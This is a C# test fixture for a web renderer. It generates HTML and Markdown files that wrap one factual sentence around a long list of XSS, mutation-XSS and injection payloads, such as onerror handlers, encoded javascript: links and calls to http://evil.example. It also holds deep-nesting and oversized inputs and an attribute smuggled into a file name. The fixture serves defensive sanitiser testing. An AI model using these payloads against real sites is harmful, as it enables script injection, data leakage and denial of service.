using System.Text;

namespace Entente.Web.Tests.Shelf;

/// <summary>
/// Texts that try to do something in the page that shows them. Each would set `window.hit` or ask `http://evil.example` for something, if anything of it came
/// alive; each holds the sentence that must still be read.
/// </summary>
internal static class Attacks
{
    public const string Sentence = "China's exports to Russia rose by 36 percent in 2023.";

    private const string Do = "window.hit=1";

    /// <summary>Name and contents. A name ends as the file does.</summary>
    public static IReadOnlyList<(string Name, string Text)> All { get; } = [.. Pages(), .. Notes()];

    private static IEnumerable<(string, string)> Pages()
    {
        (string, string) Page(string name, string body) =>
            (
                $"{name}.html",
                $"<!doctype html><html><head><title>t</title></head><body><article><p>{Sentence}</p>{body}<p>{Sentence}</p></article></body></html>"
            );
        yield return Page("script", $"<script>{Do}</script>");
        yield return Page("script-case", $"<ScRiPt>{Do}</sCrIpT>");
        yield return Page("script-slash", $"<script/x>{Do}</script/x>");
        yield return Page("script-src", "<script src=http://evil.example/a.js></script>");
        yield return Page("script-nested", $"<scr<script>ipt>{Do}</scr</script>ipt>");
        yield return Page("script-unclosed", $"<script>{Do}<p>");
        yield return Page("script-comment", $"<script><!--<script>{Do}</script>--></script>");
        yield return Page("module", $"<script type=module>{Do}</script>");
        yield return Page("img-onerror", $"<img src=x onerror={Do}>");
        yield return Page("img-onerror-quotes", $"<img src=\"x\" onerror=\"{Do}\">");
        yield return Page("img-slashes", $"<img/src/onerror={Do}>");
        yield return Page("img-network", "<img src=http://evil.example/p.png>");
        yield return Page("img-srcset", "<img srcset='http://evil.example/p.png 1x, http://evil.example/q.png 2x'>");
        yield return Page("picture", "<picture><source srcset=http://evil.example/p.webp><img src=http://evil.example/p.png></picture>");
        yield return Page("img-lowsrc", "<img lowsrc=http://evil.example/p dynsrc=http://evil.example/q>");
        yield return Page("svg-onload", $"<svg onload={Do}></svg>");
        yield return Page("svg-script", $"<svg><script>{Do}</script></svg>");
        yield return Page("svg-animate", $"<svg><a><animate attributeName=href values=javascript:{Do} /><text>x</text></a></svg>");
        yield return Page("svg-use", "<svg><use href=http://evil.example/a.svg#x /></svg>");
        yield return Page(
            "svg-foreign",
            $"<svg><foreignObject><iframe srcdoc='<script>parent.{Do}</script>'></iframe></foreignObject></svg>"
        );
        yield return Page("svg-style", $"<svg><style><img src=x onerror={Do}></style></svg>");
        yield return Page("svg-title", $"<svg><title><img src=x onerror={Do}></title></svg>");
        yield return Page("math", $"<math><mtext><img src=x onerror={Do}></mtext></math>");
        yield return Page("math-annotation", $"<math><annotation-xml encoding=text/html><img src=x onerror={Do}></annotation-xml></math>");
        yield return Page(
            "mutation-style",
            $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Do}&gt;\"></table>"
        );
        yield return Page("mutation-form", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Do}>");
        yield return Page("mutation-noscript", $"<noscript><p title=\"</noscript><img src=x onerror={Do}>\"></noscript>");
        yield return Page("mutation-template", $"<template><img src=x onerror={Do}></template>");
        yield return Page("mutation-select", $"<select><template><style><!--</style><img src=x onerror={Do}>--></template></select>");
        yield return Page("mutation-xmp", $"<xmp><p title=\"</xmp><img src=x onerror={Do}>\"></xmp>");
        yield return Page("mutation-title", $"<title><p title=\"</title><img src=x onerror={Do}>\"></title>");
        yield return Page("mutation-comment", $"<!--><img src=x onerror={Do}>-->");
        yield return Page("mutation-comment-dash", $"<!--!><img src=x onerror={Do}>--!>");
        yield return Page("mutation-cdata", $"<svg><![CDATA[><img src=x onerror={Do}>]]></svg>");
        yield return Page("mutation-bogus", $"<?xml <img src=x onerror={Do}>?>");
        yield return Page("mutation-entity", $"&lt;img src=x onerror={Do}&gt;");
        yield return Page("mutation-double-entity", $"&amp;lt;script&amp;gt;{Do}&amp;lt;/script&amp;gt;");
        yield return Page("iframe", "<iframe src=http://evil.example/></iframe>");
        yield return Page("iframe-srcdoc", $"<iframe srcdoc='&lt;script&gt;parent.{Do}&lt;/script&gt;'></iframe>");
        yield return Page("iframe-javascript", $"<iframe src=javascript:parent.{Do}></iframe>");
        yield return Page("object", "<object data=http://evil.example/a.swf></object><embed src=http://evil.example/b.swf>");
        yield return Page("object-data", $"<object data='data:text/html,<script>{Do}</script>'></object>");
        yield return Page("base", "<base href=http://evil.example/><a href=/x>link</a>");
        yield return Page("meta-refresh", "<meta http-equiv=refresh content='0;url=http://evil.example/'>");
        yield return Page("meta-policy", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">");
        yield return Page(
            "link-style",
            "<link rel=stylesheet href=http://evil.example/a.css><link rel=prefetch href=http://evil.example/b>"
        );
        yield return Page("style", "<style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example/b)}</style>");
        yield return Page("style-attribute", "<p style=\"background:url('http://evil.example/c')\">x</p>");
        yield return Page("style-cover", "<a href=http://evil.example/ style='position:fixed;inset:0;z-index:99'>all</a>");
        yield return Page("javascript", $"<a href=javascript:{Do}>link</a>");
        yield return Page("javascript-case", $"<a href=JaVaScRiPt:{Do}>link</a>");
        yield return Page("javascript-entities", $"<a href=\"&#106;&#97;vascript&colon;{Do}\">link</a>");
        yield return Page("javascript-hex", $"<a href=\"&#x6A&#x61&#x76&#x61script:{Do}\">link</a>");
        yield return Page("javascript-tab", $"<a href=\"java&Tab;script:{Do}\">link</a>");
        yield return Page("javascript-newline", $"<a href=\"java\nscript:{Do}\">link</a>");
        yield return Page("javascript-lead", $"<a href=\"&#1;javascript:{Do}\">link</a>");
        yield return Page("javascript-null", $"<a href=\"java\0script:{Do}\">link</a>");
        yield return Page("javascript-view", $"<a href='view-source:javascript:{Do}'>link</a><a href='feed:javascript:{Do}'>link</a>");
        yield return Page("vbscript", $"<a href=vbscript:{Do}>link</a>");
        yield return Page("data-link", $"<a href='data:text/html,<script>{Do}</script>'>link</a>");
        yield return Page("blob-link", "<a href='blob:http://evil.example/1'>link</a><a href='file:///etc/passwd'>link</a>");
        yield return Page("mailto-header", "<a href='mailto:a@b.example?bcc=c@evil.example'>link</a>");
        yield return Page("user-link", "<a href='http://bank.example@evil.example/'>link</a>");
        yield return Page("ping", "<a href=http://evil.example/ ping=http://evil.example/ping target=_top>link</a>");
        yield return Page("handlers", $"<p onclick={Do} onmouseover={Do} onfocus={Do} autofocus tabindex=1 contenteditable>x</p>");
        yield return Page("handler-unicode", $"<p oncl\u0131ck={Do} on\u200Bclick={Do}>x</p>");
        yield return Page("details", $"<details open ontoggle={Do}><summary>s</summary>x</details>");
        yield return Page(
            "media",
            $"<video src=x onerror={Do}><source src=http://evil.example/v></video><audio autoplay src=http://evil.example/a></audio>"
        );
        yield return Page(
            "form",
            $"<form action=http://evil.example/><input autofocus onfocus={Do}><button formaction=javascript:{Do}>go</button></form>"
        );
        yield return Page("input-image", "<input type=image src=http://evil.example/i.png>");
        yield return Page("marquee", $"<marquee onstart={Do}>x</marquee><isindex type=image src=x onerror={Do}>");
        yield return Page(
            "clobber",
            "<a id=config name=config href=http://x.example/>a</a><p id=content>b</p><form id=document><input name=body></form>"
        );
        yield return Page(
            "class-borrowed",
            "<div class='corner drop-veil dialog' id=content role=alert aria-live=assertive data-claim=c1>x</div>"
        );
        yield return Page("slot", $"<div><template shadowrootmode=open><img src=x onerror={Do}><slot></slot></template></div>");
        yield return Page("portal", "<portal src=http://evil.example/></portal><fencedframe src=http://evil.example/></fencedframe>");
        yield return Page(
            "namespaces",
            $"<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>{Do}</xss:script><x-widget onload={Do}>x</x-widget>"
        );
        yield return Page("long-tag", $"<{new string('a', 70_000)} onclick={Do}>x");
        yield return Page(
            "many-attributes",
            "<p " + string.Join(' ', Enumerable.Range(0, 20_000).Select(i => $"a{i}=1 onclick{i}={Do}")) + ">x</p>"
        );
        yield return Page("huge-attribute", $"<a href='http://x.example/{new string('a', 300_000)}'>link</a>");
        yield return Page("deep", string.Concat(Enumerable.Repeat("<div><b><blockquote>", 5_000)) + "x");
        yield return Page("deep-formatting", string.Concat(Enumerable.Range(0, 3_000).Select(i => $"<b class={i}><p>")) + "x");
        yield return Page("billion-nodes", string.Concat(Enumerable.Repeat("<i></i>", 150_000)));
        yield return Page("wrong-nesting", $"<b><p><i></b></p></i><table><tr><b><td><img src=x onerror={Do}></b></table></p></td>");
        yield return Page("half-tag", $"<p <img src=x onerror={Do}//<");
        yield return Page("null-bytes", $"<scr\0ipt>{Do}</scr\0ipt><im\0g src=x onerror={Do}>");
        yield return Page("direction", "<p>\u202Etnec rep 63\u202C gnp.\u2066exe\u2069</p>");
        yield return Page("plaintext", $"<plaintext><script>{Do}</script>");
    }

    private static IEnumerable<(string, string)> Notes()
    {
        (string, string) Note(string name, string body) => ($"{name}.md", $"# Title\n\n{Sentence}\n\n{body}\n\n{Sentence}\n");
        yield return Note("md-script", $"<script>{Do}</script>");
        yield return Note("md-inline-html", $"Some <img src=x onerror={Do}> text <svg/onload={Do}> more");
        yield return Note("md-javascript", $"[link](javascript:{Do}) and [more](<java\tscript:{Do}>)");
        yield return Note("md-javascript-entities", $"[link](&#106;avascript:{Do}) [two](javascript&colon;{Do})");
        yield return Note("md-reference", $"[link][x]\n\n[x]: javascript:{Do} \"t\"");
        yield return Note("md-autolink", $"<javascript:{Do}> <data:text/html,{Do}> <http://evil.example/>");
        yield return Note("md-image", "![words](http://evil.example/p.png) ![](data:image/svg+xml,<svg/onload=1>)");
        yield return Note("md-image-title", $"![a\" onerror=\"{Do}](x \"t\\\" onerror=\\\"{Do}\")");
        yield return Note("md-link-quotes", $"[a](http://x.example/\"onclick=\"{Do})");
        yield return Note("md-html-block", $"<div onclick={Do}>\n\n**bold** <iframe src=http://evil.example/></iframe>\n\n</div>");
        yield return Note("md-comment", $"<!-- --> <img src=x onerror={Do}> -->");
        yield return Note(
            "md-style",
            "<style>@import 'http://evil.example/a';</style>\n\n<link rel=stylesheet href=http://evil.example/b>"
        );
        yield return Note("md-table", $"| a | b |\n|---|---|\n| <img src=x onerror={Do}> | [c](javascript:{Do}) |");
        yield return Note("md-code", $"```html\"onload=\"{Do}\n<script>{Do}</script>\n```\n\n`<script>{Do}</script>`");
        yield return Note("md-front", $"---\ntitle: <script>{Do}</script>\n---");
        yield return Note("md-deep-quotes", string.Concat(Enumerable.Repeat("> ", 4_000)) + "x");
        yield return Note("md-deep-lists", string.Concat(Enumerable.Range(0, 400).Select(i => new string(' ', 2 * i) + "- x\n")));
        yield return Note("md-brackets", new string('[', 20_000) + "x" + new string(']', 20_000));
        yield return Note("md-stars", string.Concat(Enumerable.Repeat("*a **b ", 8_000)));
        yield return Note("md-direction", "\u202Etnec rep 63\u202C a\u200Bb\uFEFFc \u2067x");
        yield return Note("md-null", "a\0b <scr\0ipt>" + Do + "</scr\0ipt>");
        yield return ("named.md.html", $"<html><body><h1>{Sentence}</h1><p>{Sentence} <a href='//evil.example/x'>y</a></p></body></html>");
        yield return ("\" onerror=\"window.hit=1\" x=\".md", Sentence + "\n");
    }

    public static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);
}
